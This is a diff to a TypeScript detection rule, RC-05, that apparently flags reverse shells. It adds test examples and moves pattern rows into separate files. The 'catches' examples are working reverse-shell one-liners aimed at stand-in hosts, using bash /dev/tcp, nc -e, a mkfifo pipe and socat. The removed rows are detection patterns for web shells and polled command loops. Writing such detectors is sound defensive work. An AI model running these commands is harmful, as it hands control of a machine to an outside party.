@@ -1,4 +1,5 @@
 /** RC-05: A shell is connected to a network address, which gives somebody else the machine. */
+import { codeKinds, row, runKinds } from '../../engine/rule.ts';
 import {
   blank,
   chars,
@@ -8,7 +9,6 @@ import {
   either,
   except,
   gap,
-  lazy,
   letters,
   maybe,
   oneOf,
@@ -19,8 +19,10 @@ import {
   times,
   word,
 } from '../../engine/pattern.ts';
-import { codeKinds, runKinds, row, type PatternRule } from '../../engine/rule.ts';
-import { fetchers, interpreters } from './shared.ts';
+import { fenced, inFile } from '../../engine/example.ts';
+import type { PatternRule } from '../../engine/rule.ts';
+import { shellPrograms } from './rc-05-shell-programs.ts';
+import { commandServers } from './rc-05-command-servers.ts';
 
 export const remoteShell: PatternRule = {
   id: 'RC-05',
@@ -68,6 +70,12 @@ export const remoteShell: PatternRule = {
           ),
         ),
       ),
+      catches: [fenced('bash', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1')],
+      spares: [
+        fenced('powershell', "$from = 'https://get.scoop.sh'", 'iex (iwr -UseBasicParsing $from).Content'),
+        inFile('scripts/a.sh', 'ssh -L 8080:localhost:80 deploy@www.acme.example'),
+        inFile('scripts/a.sh', 'nc -z localhost 5432 && echo up'),
+      ],
     }),
     row('netcat with a shell', {
       within: 'line',
@@ -97,6 +105,8 @@ export const remoteShell: PatternRule = {
           ),
         ),
       ),
+      catches: [inFile('scripts/a.sh', 'nc -e /bin/bash c2.invalid 4444')],
+      spares: [fenced('sh', 'nc -l 9000 < report.txt')],
     }),
     row('a named pipe between shell and netcat', {
       in: runKinds,
@@ -118,6 +128,14 @@ export const remoteShell: PatternRule = {
           edge,
         ),
       ],
+      catches: [
+        inFile(
+          'scripts/setup.sh',
+          'mkfifo /tmp/f',
+          'cat /tmp/f | /bin/sh -i 2>&1 | nc c2.invalid 9001 > /tmp/f',
+        ),
+      ],
+      spares: [inFile('scripts/setup.sh', 'mkfifo /tmp/f', 'cat /tmp/f | sort')],
     }),
     row('socat with a shell', {
       within: 'line',
@@ -127,322 +145,10 @@ export const remoteShell: PatternRule = {
           seq(word('socat'), gap(80), edge, 'exec:', gap(100), oneOf('pty', 'stderr')),
         ),
       ),
+      catches: [fenced('sh', 'socat tcp:c2.invalid:9001 exec:"bash -li",pty,stderr')],
+      spares: [fenced('sh', 'socat tcp-listen:8080,fork tcp:localhost:3000')],
     }),
-    row('Python: a socket becomes standard input and output', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        oneOf(code('socket.socket('), code('socket.create_connection('), seq(edge, code('s.connect(('))),
-      ),
-      and: [
-        pattern(
-          either(
-            code('os.dup2('),
-            code('pty.spawn('),
-            seq(
-              'subprocess.(call|Popen|run)',
-              code('('),
-              space(0, 4),
-              maybe(code('[')),
-              space(0, 3),
-              quote,
-              '(/bin/)(ba|z)?sh',
-              quote,
-            ),
-          ),
-        ),
-        pattern(either(seq('(ba|z)?sh', edge), 'cmd.exe', 'powershell')),
-      ],
-    }),
-    row('Node: a socket piped to a shell', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        oneOf(
-          'net.(connect|createConnection|Socket|createServer)',
-          'new net.Socket',
-          'tls.connect',
-          seq(
-            oneOf(seq(code('require('), space(0, 2)), seq('from', space(1, 3))),
-            chars('"\'`'),
-            '(node:)(net|tls)',
-            chars('"\'`'),
-          ),
-          code('Deno.connect('),
-          code('Bun.connect('),
-        ),
-      ),
-      and: [
-        pattern(
-          oneOf('spawn', 'exec', 'execFile'),
-          code('('),
-          space(0, 4),
-          quote,
-          maybe('/bin/'),
-          oneOf('(ba|z)?sh', 'cmd(.exe)', 'powershell(.exe)'),
-          quote,
-        ),
-        pattern(code('.pipe(')),
-      ],
-    }),
-    row('the same in Ruby, PHP, Perl, Go, PowerShell', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        oneOf(
-          'TCPSocket.(new|open)',
-          code('fsockopen('),
-          'IO::Socket::INET',
-          'use Socket;',
-          seq(code('net.Dial('), space(0, 4), quote, 'tcp'),
-          code('TCPClient('),
-        ),
-        gap(300),
-      ),
-      and: [
-        pattern(
-          either(
-            seq(
-              oneOf('exec', 'system', 'popen', 'proc_open', 'spawn', 'Command', 'iex'),
-              space(0, 3),
-              chars('( '),
-              gap(60),
-              oneOf(seq('(ba|z)?sh', edge), 'cmd(.exe)'),
-            ),
-            code('open(STDIN'),
-            word('iex'),
-            'Invoke-Expression',
-          ),
-        ),
-      ],
-    }),
-    row('a socket whose lines are run as commands, in either direction', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        either(
-          seq(edge, oneOf('recv', 'recvfrom', 'recv_into', 'accept'), code('(')),
-          seq(code('.on('), space(0, 3), quote, oneOf('data', 'message'), quote),
-          word(oneOf('gets', 'readline', 'ReadLine', 'GetStream')),
-        ),
-      ),
-      and: [
-        pattern(
-          either(
-            code('socket.socket('),
-            code('create_connection('),
-            code('create_server('),
-            'net.(connect|createConnection|createServer|Socket)',
-            code('new WebSocket('),
-            'TCP(Socket|Server|Client|Listener)',
-          ),
-        ),
-        pattern(
-          word(
-            oneOf(
-              seq('subprocess.', letters(2, 14)),
-              'os.(system|popen)',
-              'exec(Sync)',
-              'spawn(Sync)',
-              'popen',
-              'system',
-              'Invoke-Expression',
-              'iex',
-              'IO.popen',
-              seq('Open3.', letters(4, 10)),
-            ),
-            space(0, 3),
-            chars('( '),
-            space(0, 3),
-            oneOf(
-              'cmd',
-              'command',
-              'data',
-              'line',
-              'msg',
-              'message',
-              'input',
-              'buf',
-              'buffer',
-              'c',
-              'd',
-              's',
-              'chunk',
-              'order',
-              'task',
-              'recv',
-              'request',
-              'payload',
-              seq(letters(1, 20), '.', oneOf('decode', 'toString', 'strip', 'trim', 'chomp', 'recv')),
-            ),
-          ),
-        ),
-      ],
-    }),
-    row('a web page that runs its parameters', {
-      within: 'line',
-      match: pattern(
-        word(
-          oneOf('system', 'exec', 'shell_exec', 'passthru', 'popen', 'proc_open', 'eval', 'assert'),
-          space(0, 3),
-          code('('),
-          space(0, 3),
-          maybe(code('base64_decode('), space(0, 3)),
-          '$_',
-          oneOf('GET', 'POST', 'REQUEST', 'COOKIE', 'SERVER'),
-        ),
-      ),
-    }),
-    row('a server that runs what a request says', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        edge,
-        oneOf('exec(Sync)', 'spawn(Sync)', seq('subprocess.', letters(2, 14)), 'os.(system|popen)'),
-        space(0, 3),
-        code('('),
-        space(0, 4),
-        oneOf(
-          seq(
-            'req(uest).',
-            oneOf(
-              'query',
-              'body',
-              'params',
-              'args',
-              'form',
-              'headers',
-              'get_data',
-              'data',
-              'json',
-              'url',
-              'values',
-            ),
-          ),
-          'self.(rfile|headers|path)',
-          seq(oneOf('url', 'parsed', 'query', 'params', 'qs'), letters(0, 10), maybe('.query'), chars('.[')),
-        ),
-      ),
-      and: [
-        pattern(
-          either(
-            'http(s).createServer',
-            seq(edge, code('express(')),
-            code('Flask('),
-            'BaseHTTPRequestHandler',
-            'http.server',
-            code('FastAPI('),
-            'Deno.serve',
-            'Bun.serve',
-            word('bottle'),
-            'aiohttp',
-          ),
-        ),
-      ],
-    }),
-    row('commands polled from a host, again and again', {
-      in: runKinds,
-      within: 'block',
-      match: pattern(
-        oneOf(
-          seq(
-            edge,
-            'while',
-            space(0, 3),
-            oneOf(
-              seq(maybe(code('(')), space(0, 2), oneOf('true', '1', ':'), space(0, 2), maybe(code(')'))),
-              '[',
-            ),
-          ),
-          seq(edge, 'for', space(0, 2), code('('), maybe(code('(')), space(0, 2), ';', space(0, 2), ';'),
-          seq(edge, code('setInterval(')),
-          word('loop', space(1, 3), 'do'),
-          seq(edge, 'until', space(1, 3), 'false'),
-        ),
-      ),
-      and: [
-        pattern(
-          either(
-            seq(
-              edge,
-              fetchers,
-              blank,
-              lazy(gap(200)),
-              'http(s):',
-              lazy(gap(200)),
-              code('|'),
-              space(0, 8),
-              interpreters,
-            ),
-            seq(
-              oneOf(seq(edge, 'eval'), seq(edge, '(ba|z)?sh', space(1, 4), '-c')),
-              space(1, 4),
-              maybe(quote),
-              oneOf(code('$('), '`'),
-              space(0, 4),
-              fetchers,
-              blank,
-            ),
-            seq(
-              oneOf(
-                'exec',
-                'eval',
-                'execSync',
-                'os.system',
-                seq('subprocess.', letters(2, 14)),
-                'iex',
-                'Invoke-Expression',
-              ),
-              space(0, 3),
-              maybe(code('(')),
-              space(0, 3),
-              maybe('await', space(1, 3)),
-              maybe(code('(')),
-              space(0, 3),
-              oneOf(
-                'requests.get',
-                'urlopen',
-                'urllib',
-                'httpx.get',
-                'fetch',
-                'irm',
-                'iwr',
-                seq(maybe(code('(')), 'irm'),
-                seq(maybe(code('(')), 'iwr'),
-              ),
-            ),
-          ),
-        ),
-      ],
-    }),
-    row('a listener that feeds a shell, or the login port forwarded outwards', {
-      within: 'line',
-      match: pattern(
-        either(
-          seq(
-            word('nc(at)'),
-            times(0, 60, except('\\n|')),
-            blank,
-            '-',
-            letters(0, 4),
-            'l',
-            letters(0, 4),
-            word(times(0, 80, except('\\n|')), code('|'), space(0, 4), '(/bin/)(ba|z|da)?sh'),
-          ),
-          seq(
-            word('ssh'),
-            times(0, 120, except('\\n|;')),
-            blank,
-            '-',
-            oneOf(seq(letters(0, 4), 'R'), 'R'),
-            space(0, 3),
-            maybe(times(1, 60, chars('\\w.*')), ':'),
-            times(1, 5, digit),
-            ':(localhost|127.0.0.1|[::1]):22',
-            edge,
-          ),
-        ),
-      ),
-    }),
+    ...shellPrograms,
+    ...commandServers,
   ],
 };
